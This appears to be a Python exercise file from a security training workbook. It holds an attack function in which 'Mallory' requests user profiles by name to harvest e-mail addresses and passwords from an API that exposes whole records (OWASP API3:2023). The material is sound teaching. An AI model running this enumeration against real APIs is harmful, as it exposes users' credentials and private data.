"""Mallory loops over user names and keeps what comes back.

It works because the API sends whole records: whoever knows a name gets e-mail and password too.
"""

from workbook.attacking import Api, attack

NAMES = ("alice", "bob", "olga")


@attack(
    "Read e-mail addresses and passwords out of every profile",
    route="GET /profile",
    closes=1,
    see="OWASP API3:2023",
)
def read_every_profile(api: Api) -> str | None:
    """Ask for every profile and look for what should be private."""
    private = ["@example.com", "violin-in-winter", "seven-green-kites", "keeper-of-the-keys"]
    if api.post("/register", json={}).status not in (404, 405):
        private += [api.register(name).password for name in NAMES]
    loot = []
    for name in NAMES:
        seen = api.get("/profile", params={"username": name}, caller="mallory")
        loot += [secret for secret in private if secret in seen.text]
    return f"private data of {len(NAMES)} people: {', '.join(sorted(set(loot)))}" if loot else None
